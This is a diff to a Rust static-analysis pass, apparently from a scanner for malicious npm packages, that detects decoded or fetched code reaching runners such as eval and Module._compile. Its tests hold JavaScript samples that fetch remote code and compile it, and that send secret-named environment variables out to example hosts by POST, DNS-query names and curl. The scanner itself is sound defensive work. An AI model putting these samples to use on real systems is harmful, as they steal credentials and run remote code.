@@ -15,9 +15,18 @@ use oxc_ast::ast::*;
 use oxc_ast_visit::{Visit, walk};
 use oxc_span::GetSpan;
 
-/// How bad the data is, weakest first.
+/// How bad the data is, weakest first. The first three are where code can hide (they matter
+/// when they reach a code runner); the rest are secrets (they matter when they leave).
 #[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
 pub enum Source {
+    /// What a local decoding function (XOR, ROT13, char-code shifts, base-N) or a built-in
+    /// decoder makes of constant data written in the file.
+    Decoded,
+    /// A file the package ships that is not code (JSON/YAML fields, `package.json`, a source
+    /// map, an image, a font, a text file).
+    PackageData,
+    /// A network response (`fetch(…).text()`, the chunks of `https.get`, `res.data`).
+    Remote,
     /// Who and where the machine is (`os.hostname()`, `os.userInfo()`).
     Host,
     /// One secret-named environment variable (`process.env.NPM_TOKEN`).
@@ -26,6 +35,13 @@ pub enum Source {
     /// (`.env`, `.npmrc`, SSH keys, cloud credentials…), a credential helper's output
     /// (`gh auth token`, `git credential fill`).
     Secrets,
+}
+
+impl Source {
+    /// A secret (not a hiding place for code).
+    pub fn is_secret(self) -> bool {
+        self >= Source::Host
+    }
 }
 
 /// A source reaching a sink in one file.
@@ -41,8 +57,9 @@ pub struct Flow {
 
 type Taint = (Source, String);
 
-/// Runs the flow pass over a parsed program with the analyser's final alias map.
-pub fn flows(an: &Analyzer, program: &Program) -> Vec<Flow> {
+/// Runs the flow pass over a parsed program with the analyser's final alias map: secrets that
+/// reach a network send, and hidden code (or a host-derived key) that reaches a code runner.
+pub fn flows(an: &Analyzer, program: &Program) -> (Vec<Flow>, Vec<Flow>) {
     let mut t = Tracker {
         an,
         vars: HashMap::default(),
@@ -51,24 +68,52 @@ pub fn flows(an: &Analyzer, program: &Program) -> Vec<Flow> {
         returns: HashMap::default(),
         current: Vec::new(),
         flows: Vec::new(),
+        runs: Vec::new(),
+        decoders: HashMap::default(),
+        data_paths: HashMap::default(),
+        const_data: HashMap::default(),
+        callback_taints: HashMap::default(),
         grew: false,
     };
     for _ in 0..4 {
         t.grew = false;
         t.flows.clear();
+        t.runs.clear();
         t.visit_program(program);
         if !t.grew {
             break;
         }
     }
     let mut out = t.flows;
+    out.retain(|f| f.source.is_secret());
     out.sort_by_key(|f| (f.off, std::cmp::Reverse(f.source)));
     out.dedup_by_key(|f| f.off);
-    out
+    let mut runs = t.runs;
+    runs.sort_by_key(|f| (f.off, std::cmp::Reverse(f.source)));
+    runs.dedup_by_key(|f| f.off);
+    (out, runs)
 }
 
-/// Whether the text of a file can hold a flow at all: a source and a sink both named.
+/// Whether the text of a file can hold a flow at all: a source and a sink both named, or a
+/// code runner.
 pub fn worth_tracking(src: &str) -> bool {
+    if [
+        "eval",
+        "Function",
+        "vm.",
+        "_compile",
+        "Runtime.evaluate",
+        "import(",
+        "constructor",
+        "'-e'",
+        "\"-e\"",
+        "node -",
+    ]
+    .iter()
+    .any(|k| src.contains(k))
+    {
+        return true;
+    }
     let source = src.contains("process.env")
         || src.contains("readFile")
         || src.contains("hostname")
@@ -107,7 +152,69 @@ struct Tracker<'b, 's> {
     /// The named functions being walked, innermost last.
     current: Vec<String>,
     flows: Vec<Flow>,
+    /// Hidden code or a host-derived value reaching a code runner.
+    runs: Vec<Flow>,
+    /// Local functions whose body decodes (char codes, XOR, base-N, ROT13).
+    decoders: HashMap<String, bool>,
+    /// Variables holding a path to a data file of the package, and constant data (long strings,
+    /// arrays of numbers or strings) a decoder may be applied to.
+    data_paths: HashMap<String, String>,
+    const_data: HashMap<String, bool>,
+    /// Local functions that call their n-th parameter with a tainted value.
+    callback_taints: HashMap<(String, usize), Taint>,
     grew: bool,
+}
+
+/// Whether a function body's source decodes data: char-code arithmetic, XOR, base-N digits,
+/// built-in decoders, an alphabet rotation.
+fn decoder_body(src: &str) -> bool {
+    src.len() < 4000
+        && (src.contains("fromCharCode")
+            || src.contains("charCodeAt") && (src.contains('^') || src.contains('%'))
+            || src.contains("atob(")
+            || src.contains("'base64'")
+            || src.contains("\"base64\"")
+            || src.contains("parseInt(") && src.contains("16")
+            || src.contains("codePointAt") && src.contains('^'))
+}
+
+/// A file the package ships that is data, not code: where a hidden stage sits. Templates
+/// (`.ejs`, `.hbs`, `.html`) are compiled to code by their engines and do not count.
+fn data_file(s: &str) -> Option<&'static str> {
+    let s = s.trim().to_ascii_lowercase();
+    if s.len() > 300 || s.contains("://") {
+        return None;
+    }
+    let base = s.rsplit(['/', '\\']).next().unwrap_or(&s);
+    if base == "package.json" {
+        return Some("package.json");
+    }
+    let ext = base.rsplit_once('.').map(|(_, e)| e)?;
+    match ext {
+        "json" | "yaml" | "yml" | "toml" | "map" => Some("a data file"),
+        "png" | "jpg" | "jpeg" | "gif" | "ico" | "bmp" | "webp" | "svg" => Some("an image"),
+        "ttf" | "otf" | "woff" | "woff2" | "eot" => Some("a font"),
+        "txt" | "md" | "dat" | "bin" | "db" | "csv" | "log" | "lock" => Some("a text or data file"),
+        _ => None,
+    }
+}
+
+/// Calls that run a string as code; the index of the argument holding the code.
+pub fn code_runner(p: &str, n_args: usize) -> Option<usize> {
+    match p {
+        "eval"
+        | "vm.runInThisContext"
+        | "vm.runInNewContext"
+        | "vm.runInContext"
+        | "vm.Script"
+        | "vm.compileFunction"
+        | "vm.SourceTextModule"
+        | "worker_threads.Worker(eval)"
+        | "module.register" => Some(0),
+        "Function" => Some(n_args.saturating_sub(1)),
+        _ if p.ends_with("._compile") => Some(0),
+        _ => None,
+    }
 }
 
 /// A secret-looking environment variable name.
@@ -301,6 +408,233 @@ impl Tracker<'_, '_> {
         }
     }
 
+    /// The data file of the package a path expression names (`path.join(__dirname, 'a.png')`).
+    fn names_data_file(&self, e: &Expression, depth: u32) -> Option<String> {
+        if depth > 12 {
+            return None;
+        }
+        if let Some(s) = self.an.fold_expr(e)
+            && let Some(w) = data_file(&s)
+        {
+            return Some(w.to_string());
+        }
+        match e.without_parentheses() {
+            Expression::StringLiteral(s) => data_file(&s.value).map(str::to_string),
+            Expression::Identifier(id) => self.data_paths.get(id.name.as_str()).cloned(),
+            Expression::TemplateLiteral(t) => t
+                .quasis
+                .last()
+                .and_then(|q| data_file(q.value.raw.as_str()))
+                .map(str::to_string),
+            Expression::BinaryExpression(b) => self.names_data_file(&b.right, depth + 1),
+            Expression::CallExpression(c) => c
+                .arguments
+                .last()
+                .and_then(|a| a.as_expression())
+                .and_then(|x| self.names_data_file(x, depth + 1)),
+            _ => None,
+        }
+    }
+
+    /// Constant data a decoder can be applied to: a long string, an array of constants, a
+    /// variable holding one.
+    fn constant_data(&self, e: &Expression) -> bool {
+        match e.without_parentheses() {
+            Expression::Identifier(id) => {
+                self.const_data.contains_key(id.name.as_str())
+                    || self.an.fold_expr(e).is_some_and(|s| s.len() >= 16)
+            }
+            Expression::ArrayExpression(a) => {
+                a.elements.len() >= 8
+                    && a.elements.iter().all(|el| {
+                        matches!(
+                            el,
+                            ArrayExpressionElement::NumericLiteral(_)
+                                | ArrayExpressionElement::StringLiteral(_)
+                                | ArrayExpressionElement::UnaryExpression(_)
+                        )
+                    })
+            }
+            Expression::StringLiteral(s) => s.value.len() >= 16,
+            Expression::TemplateLiteral(t) => {
+                t.expressions.is_empty()
+                    && t.quasis.iter().map(|q| q.value.raw.len()).sum::<usize>() >= 16
+            }
+            Expression::StaticMemberExpression(m) => self.constant_data(&m.object),
+            Expression::CallExpression(c) => match c.callee.without_parentheses() {
+                // `'…'.split('')`, `data.slice(3)`, `Buffer.from(k)`
+                Expression::StaticMemberExpression(m) => {
+                    self.constant_data(&m.object)
+                        || c.arguments
+                            .first()
+                            .and_then(|a| a.as_expression())
+                            .is_some_and(|a| self.constant_data(a))
+                }
+                _ => false,
+            },
+            _ => false,
+        }
+    }
+
+    /// Where a call's result hides code: a data file of the package (`require('./x.json')`), a
+    /// decoder applied to constant data, char codes turned into a string.
+    fn hidden_code_source(&self, c: &CallExpression, p: &str, depth: u32) -> Option<Taint> {
+        let args = || c.arguments.iter().filter_map(|a| a.as_expression());
+        // Only the package's own manifest: other required JSON (jsdom's property tables) is
+        // followed through names without scopes into unrelated calls.
+        if p == "require"
+            && let Some(w) = args()
+                .next()
+                .and_then(|a| self.names_data_file(a, 0))
+                .filter(|w| w == "package.json")
+        {
+            return Some((Source::PackageData, format!("requires {w}")));
+        }
+        let all_args = || {
+            c.arguments.iter().filter_map(|a| match a {
+                Argument::SpreadElement(s) => Some(&s.argument),
+                a => a.as_expression(),
+            })
+        };
+        let decoding_local = matches!(c.callee.without_parentheses(),
+            Expression::Identifier(id) if self.decoders.get(id.name.as_str()).copied() == Some(true));
+        let builtin = matches!(
+            p,
+            "String.fromCharCode" | "String.fromCharCode.apply" | "String.fromCodePoint"
+        );
+        if (decoding_local || builtin) && all_args().any(|a| self.constant_data(a)) {
+            // A key from the host's identity wins: the stage only decodes on its target.
+            for a in all_args() {
+                if let Some(t) = self.taint_of(a, depth + 1)
+                    && t.0 == Source::Host
+                {
+                    return Some(t);
+                }
+            }
+            return Some((Source::Decoded, format!("{p}(…) of constant data")));
+        }
+        // `'…'.split('').map((ch) => String.fromCharCode(ch.charCodeAt(0) ^ 7))`,
+        // `s.replace(/[a-z]/gi, rot)`: a decoding callback over constant data.
+        if let Expression::StaticMemberExpression(m) = c.callee.without_parentheses()
+            && matches!(
+                m.property.name.as_str(),
+                "map" | "replace" | "replaceAll" | "reduce" | "forEach"
+            )
+            && self.constant_data(&m.object)
+            && args().any(|a| match a.without_parentheses() {
+                Expression::ArrowFunctionExpression(_) | Expression::FunctionExpression(_) => {
+                    self.an.source_of(a.span()).is_some_and(decoder_body)
+                }
+                Expression::Identifier(id) => {
+                    self.decoders.get(id.name.as_str()).copied() == Some(true)
+                }
+                _ => false,
+            })
+        {
+            return Some((
+                Source::Decoded,
+                format!("a decoding .{}(…)", m.property.name),
+            ));
+        }
+        None
+    }
+
+    /// Taints the parameters of the functions among `args` (callbacks) with `t`.
+    fn taint_callbacks(&mut self, args: &[Argument], t: &Taint) {
+        for a in args {
+            match a.as_expression().map(|e| e.without_parentheses()) {
+                Some(Expression::ArrowFunctionExpression(f)) => {
+                    for p in &f.params.items {
+                        self.taint_pattern(&p.pattern, t);
+                    }
+                }
+                Some(Expression::FunctionExpression(f)) => {
+                    for p in &f.params.items {
+                        self.taint_pattern(&p.pattern, t);
+                    }
+                }
+                Some(Expression::Identifier(id)) => {
+                    if let Some(names) = self.params.get(id.name.as_str()).cloned() {
+                        for n in names.iter().filter(|n| !n.is_empty()) {
+                            self.taint_var(n, t.clone());
+                        }
+                    }
+                }
+                _ => {}
+            }
+        }
+    }
+
+    /// A code runner given hidden code: records a run.
+    fn check_runner(&mut self, p: &str, args: &[Argument], off: u32) {
+        let exprs: Vec<&Expression> = args.iter().filter_map(|a| a.as_expression()).collect();
+        let code: Vec<&Expression> = if let Some(i) = code_runner(p, exprs.len()) {
+            exprs.get(i).into_iter().copied().collect()
+        } else if p == "worker_threads.Worker"
+            && (exprs.iter().skip(1).any(|e| {
+                self.an
+                    .source_of(e.span())
+                    .is_some_and(|s| s.replace(' ', "").contains("eval:true"))
+            }) || exprs
+                .first()
+                .and_then(|e| self.an.source_of(e.span()))
+                .is_some_and(|s| s.contains("data:") || s.contains("blob:")))
+        {
+            exprs.first().into_iter().copied().collect()
+        } else if p == "Reflect.construct" || p == "Reflect.apply" {
+            // `Reflect.construct(Function, ["r", code])`, `Reflect.apply(eval, null, [code])`.
+            let target = exprs.first().and_then(|e| self.an.path_of(e));
+            if !matches!(target.as_deref(), Some("Function" | "eval")) {
+                return;
+            }
+            exprs.last().into_iter().copied().collect()
+        } else if p.ends_with(".post")
+            && exprs
+                .first()
+                .and_then(|e| self.an.fold_expr(e))
+                .is_some_and(|m| m == "Runtime.evaluate" || m == "Runtime.compileScript")
+        {
+            // The inspector protocol: `session.post('Runtime.evaluate', { expression })`.
+            exprs.get(1).into_iter().copied().collect()
+        } else if crate::rules::exec::is_spawn(p)
+            && exprs.iter().take(2).any(|e| {
+                self.an
+                    .source_of(e.span())
+                    .is_some_and(|s| s.contains("node") || s.contains("execPath"))
+                    || self.an.fold_expr(e).is_some_and(|s| s.contains("node"))
+            })
+            && exprs.iter().take(2).any(|e| {
+                self.an
+                    .source_of(e.span())
+                    .is_some_and(|s| s.contains("-e") || s.contains("--eval") || s.contains("-p"))
+            })
+        {
+            // `node -e <code>`.
+            exprs.iter().take(2).copied().collect()
+        } else {
+            return;
+        };
+        let t = code
+            .into_iter()
+            .filter(|e| {
+                !matches!(
+                    e.without_parentheses(),
+                    Expression::FunctionExpression(_) | Expression::ArrowFunctionExpression(_)
+                )
+            })
+            .filter_map(|e| self.taint_of(e, 0))
+            .filter(|t| t.0 <= Source::Host)
+            .max_by_key(|t| t.0);
+        if let Some((source, what)) = t {
+            self.runs.push(Flow {
+                source,
+                what,
+                sink: p.to_string(),
+                off,
+            });
+        }
+    }
+
     /// The strongest source an expression carries, if any.
     fn taint_of(&self, e: &Expression, depth: u32) -> Option<Taint> {
         if depth > 24 {
@@ -333,6 +667,14 @@ impl Tracker<'_, '_> {
                 // One variable of the whole environment (`env[key]`, `env.HOME`) is that
                 // variable, not every secret.
                 if t.1 == "process.env" {
+                    // `env[k]` for every key `k` of the environment is the environment.
+                    if let Expression::ComputedMemberExpression(m) = e.without_parentheses()
+                        && self
+                            .taint_of(&m.expression, depth + 1)
+                            .is_some_and(|k| k.0 == Source::Secrets)
+                    {
+                        return Some(t);
+                    }
                     return prop
                         .filter(|p| secret_var(p))
                         .map(|p| (Source::Token, format!("process.env.{p}")));
@@ -347,6 +689,9 @@ impl Tracker<'_, '_> {
                 }
                 let p = self.an.path_of(&c.callee).unwrap_or_default();
                 let args = || c.arguments.iter().filter_map(|a| a.as_expression());
+                if let Some(t) = self.hidden_code_source(c, &p, depth) {
+                    return Some(t);
+                }
                 if matches!(
                     p.as_str(),
                     "fs.readFileSync"
@@ -355,10 +700,15 @@ impl Tracker<'_, '_> {
                         | "fs/promises.readFile"
                         | "fs.createReadStream"
                 ) {
-                    return args()
-                        .next()
+                    let first = args().next();
+                    return first
                         .and_then(|a| self.names_credential(a, 0))
-                        .map(|w| (Source::Secrets, format!("reads {w}")));
+                        .map(|w| (Source::Secrets, format!("reads {w}")))
+                        .or_else(|| {
+                            first
+                                .and_then(|a| self.names_data_file(a, 0))
+                                .map(|w| (Source::PackageData, format!("reads {w}")))
+                        });
                 }
                 // Any process start (bundlers rename the module: `import_x.execSync`).
                 let method = p.rsplit('.').next().unwrap_or(&p);
@@ -370,6 +720,9 @@ impl Tracker<'_, '_> {
                 }
                 if matches!(p.as_str(), "os.hostname" | "os.userInfo") {
                     return Some((Source::Host, p));
+                }
+                if crate::rules::network::is_net_call(&p) {
+                    return Some((Source::Remote, format!("the response of {p}")));
                 }
                 if is_sink(&p) {
                     return None;
@@ -495,7 +848,7 @@ impl Tracker<'_, '_> {
                 m.property.name.as_str(),
                 "push" | "unshift" | "set" | "append"
             )
-            && let Expression::Identifier(obj) = m.object.without_parentheses()
+            && let Some(obj) = root_ident(&m.object)
             && let Some(t) = args
                 .iter()
                 .filter_map(|a| a.as_expression())
@@ -518,9 +871,73 @@ impl Tracker<'_, '_> {
         {
             self.taint_var(obj.name.as_str(), t);
         }
+        // Callbacks of a hidden value (`res.on('data', …)`, `.then(…)`) get that value.
+        if let Expression::StaticMemberExpression(m) = callee.without_parentheses()
+            && let Some(t) = self.taint_of(&m.object, 0)
+            && (t.0 < Source::Host
+                || matches!(
+                    m.property.name.as_str(),
+                    "forEach" | "map" | "filter" | "reduce" | "flatMap" | "find" | "some" | "every"
+                ))
+        {
+            self.taint_callbacks(args, &t);
+        }
+        // A local function calling its callback parameter with hidden data hands it to every
+        // function passed in that place (`remote((src) => m._compile(src))`).
+        if let Expression::Identifier(id) = callee.without_parentheses() {
+            if let Some(cur) = self.current.last().cloned()
+                && let Some(idx) = self
+                    .params
+                    .get(&cur)
+                    .and_then(|ps| ps.iter().position(|n| n == id.name.as_str()))
+                && let Some(t) = args
+                    .iter()
+                    .filter_map(|a| a.as_expression())
+                    .filter_map(|e| self.taint_of(e, 0))
+                    .max_by_key(|t| t.0)
+                && self
+                    .callback_taints
+                    .get(&(cur.clone(), idx))
+                    .is_none_or(|o| o.0 < t.0)
+            {
+                self.callback_taints.insert((cur, idx), t);
+                self.grew = true;
+            }
+            let given: Vec<(usize, Taint)> = self
+                .callback_taints
+                .iter()
+                .filter(|((f, _), _)| f == id.name.as_str())
+                .map(|((_, i), t)| (*i, t.clone()))
+                .collect();
+            for (i, t) in given {
+                if let Some(a) = args.get(i) {
+                    self.taint_callbacks(std::slice::from_ref(a), &t);
+                }
+            }
+        }
+        // A runner on an object the alias map does not know (`new Module(x)._compile(s)`).
+        let runner = p.clone().or_else(|| match callee.without_parentheses() {
+            Expression::StaticMemberExpression(m) => Some(format!("<obj>.{}", m.property.name)),
+            _ => None,
+        });
+        if let Some(r) = &runner {
+            self.check_runner(r, args, off);
+        }
         let Some(p) = p else {
             return;
         };
+        // Callbacks of a request get the response; callbacks of a hidden value (`res.on('data',
+        // …)`, `.then(…)`) get that value; `fs.readFile(data, cb)` hands over the data.
+        if crate::rules::network::is_net_call(&p) {
+            self.taint_callbacks(args, &(Source::Remote, format!("the response of {p}")));
+        } else if matches!(p.as_str(), "fs.readFile" | "fs.promises.readFile")
+            && let Some(w) = args
+                .first()
+                .and_then(|a| a.as_expression())
+                .and_then(|a| self.names_data_file(a, 0))
+        {
+            self.taint_callbacks(args, &(Source::PackageData, format!("reads {w}")));
+        }
         let spawn = crate::rules::exec::is_spawn(&p);
         if !(is_sink(&p) || spawn && self.uploads(args)) {
             return;
@@ -549,6 +966,15 @@ impl Tracker<'_, '_> {
     }
 }
 
+/// The variable a member chain starts from (`u.searchParams` → `u`).
+fn root_ident<'e, 'a>(e: &'e Expression<'a>) -> Option<&'e IdentifierReference<'a>> {
+    match e.without_parentheses() {
+        Expression::Identifier(id) => Some(id),
+        Expression::StaticMemberExpression(m) => root_ident(&m.object),
+        _ => None,
+    }
+}
+
 fn param_names(params: &FormalParameters) -> Vec<String> {
     params
         .items
@@ -569,6 +995,12 @@ impl<'a> Visit<'a> for Tracker<'_, '_> {
         if let Some(id) = &it.id {
             self.params
                 .insert(id.name.to_string(), param_names(&it.params));
+            if let Some(body) = &it.body
+                && !self.decoders.contains_key(id.name.as_str())
+            {
+                let dec = self.an.source_of(body.span).is_some_and(decoder_body);
+                self.decoders.insert(id.name.to_string(), dec);
+            }
             self.current.push(id.name.to_string());
             walk::walk_function(self, it, flags);
             self.current.pop();
@@ -588,6 +1020,28 @@ impl<'a> Visit<'a> for Tracker<'_, '_> {
         walk::walk_return_statement(self, it);
     }
 
+    fn visit_for_of_statement(&mut self, it: &ForOfStatement<'a>) {
+        if let Some(t) = self.taint_of(&it.right, 0)
+            && let ForStatementLeft::VariableDeclaration(d) = &it.left
+        {
+            for decl in &d.declarations {
+                self.taint_pattern(&decl.id, &t);
+            }
+        }
+        walk::walk_for_of_statement(self, it);
+    }
+
+    fn visit_for_in_statement(&mut self, it: &ForInStatement<'a>) {
+        if let Some(t) = self.taint_of(&it.right, 0)
+            && let ForStatementLeft::VariableDeclaration(d) = &it.left
+        {
+            for decl in &d.declarations {
+                self.taint_pattern(&decl.id, &t);
+            }
+        }
+        walk::walk_for_in_statement(self, it);
+    }
+
     fn visit_variable_declarator(&mut self, it: &VariableDeclarator<'a>) {
         if let Some(init) = &it.init {
             if let BindingPattern::BindingIdentifier(id) = &it.id {
@@ -595,12 +1049,33 @@ impl<'a> Visit<'a> for Tracker<'_, '_> {
                     Expression::ArrowFunctionExpression(f) => {
                         self.params
                             .insert(id.name.to_string(), param_names(&f.params));
+                        let dec = self.an.source_of(f.body.span()).is_some_and(decoder_body);
+                        self.decoders.insert(id.name.to_string(), dec);
                     }
                     Expression::FunctionExpression(f) => {
                         self.params
                             .insert(id.name.to_string(), param_names(&f.params));
+                        let dec = f
+                            .body
+                            .as_ref()
+                            .and_then(|b| self.an.source_of(b.span))
+                            .is_some_and(decoder_body);
+                        self.decoders.insert(id.name.to_string(), dec);
                     }
-                    _ => {}
+                    e => {
+                        if self.constant_data(e) && !self.const_data.contains_key(id.name.as_str())
+                        {
+                            self.const_data.insert(id.name.to_string(), true);
+                        }
+                        if !self.data_paths.contains_key(id.name.as_str())
+                            && !matches!(e, Expression::CallExpression(c)
+                                if self.an.path_of(&c.callee).is_some_and(|p| p.starts_with("fs.") || p == "require"))
+                            && let Some(w) = self.names_data_file(e, 0)
+                        {
+                            self.data_paths.insert(id.name.to_string(), w);
+                            self.grew = true;
+                        }
+                    }
                 }
                 if !self.paths.contains_key(id.name.as_str())
                     && let Some(w) = self.names_credential(init, 0)
@@ -644,6 +1119,25 @@ impl<'a> Visit<'a> for Tracker<'_, '_> {
         let off = self.an.offset(it.span);
         self.check_sink(&it.callee, &it.arguments, off);
         walk::walk_call_expression(self, it);
+    }
+
+    fn visit_import_expression(&mut self, it: &ImportExpression<'a>) {
+        // `import('data:text/javascript,' + code)`: a module made of the string.
+        if let Some(t) = self.taint_of(&it.source, 0)
+            && t.0 <= Source::Host
+            && self
+                .an
+                .source_of(it.source.span())
+                .is_some_and(|s| s.contains("data:") || s.contains("blob:") || s.contains("base64"))
+        {
+            self.runs.push(Flow {
+                source: t.0,
+                what: t.1,
+                sink: "import()".into(),
+                off: self.an.offset(it.span),
+            });
+        }
+        walk::walk_import_expression(self, it);
     }
 
     fn visit_new_expression(&mut self, it: &NewExpression<'a>) {
@@ -767,5 +1261,57 @@ exec(`curl -s -d ${d} https://c.example/e`);"#;
         let f = flows(src);
         assert_eq!(f.len(), 1, "{f:?}");
         assert_eq!(f[0].0, Source::Secrets);
+    }
+
+    fn runs(src: &str) -> Vec<(Source, String)> {
+        let f = match std::thread::scope(|s| {
+            std::thread::Builder::new()
+                .stack_size(64 << 20)
+                .spawn_scoped(s, || analyze(src, "index.js", 4, 1 << 20))
+                .expect("thread")
+                .join()
+                .expect("join")
+        }) {
+            Parsed::Ok(f) | Parsed::Failed(_, f) => f,
+        };
+        f.code_runs
+            .into_iter()
+            .map(|f| (f.source, f.sink))
+            .collect()
+    }
+
+    #[test]
+    fn a_response_handed_to_a_callback_parameter_reaches_compile() {
+        let src = r#"const https = require("https"); const Module = require("module");
+function remote(cb) { https.get("https://h.example/raw", (res) => { let b = ""; res.on("data", (c) => (b += c)); res.on("end", () => cb(b)); }); }
+remote((src) => { const m = new Module("x", module); m._compile(src, "x.js"); });"#;
+        let r = runs(src);
+        assert_eq!(r.first().map(|r| r.0), Some(Source::Remote), "{r:?}");
+        let local = r#"const Module = require("module"); const fs = require("fs");
+function load(file, cb) { cb(fs.readFileSync(file, "utf8")); }
+load(process.argv[2], (src) => { const m = new Module("x", module); m._compile(src, "x.js"); });"#;
+        assert!(runs(local).is_empty());
+    }
+
+    #[test]
+    fn environment_copied_key_by_key_is_the_environment() {
+        let src = r#"const grab = {};
+for (const k of Object.keys(process.env)) if (/KEY|TOKEN/i.test(k)) grab[k] = process.env[k];
+fetch("https://c.example/u", { method: "POST", body: JSON.stringify(grab) });"#;
+        let f = flows(src);
+        assert_eq!(f.first().map(|f| f.0), Some(Source::Secrets), "{f:?}");
+        let one = r#"const o = {}; for (const k of ["HOME", "LANG"]) o[k] = process.env[k];
+fetch("https://c.example/u", { method: "POST", body: JSON.stringify(o) });"#;
+        assert!(flows(one).is_empty());
+    }
+
+    #[test]
+    fn chunks_of_the_environment_in_a_doh_query_name() {
+        let src = r#"const picked = Object.entries(process.env).filter(([k]) => /^AWS_/.test(k));
+const data = Buffer.from(JSON.stringify(picked)).toString("hex"); const chunks = data.match(/.{1,60}/g) || [];
+chunks.forEach((c, i) => { const u = new URL("https://dns.example/dns-query"); u.searchParams.set("name", `${c}.${i}.z.example`); fetch(u); });"#;
+        assert_eq!(flows(src).first().map(|f| f.0), Some(Source::Secrets));
+        let plain = r#"["a", "b"].forEach((c) => { const u = new URL("https://dns.example/q"); u.searchParams.set("name", c); fetch(u); });"#;
+        assert!(flows(plain).is_empty());
     }
 }
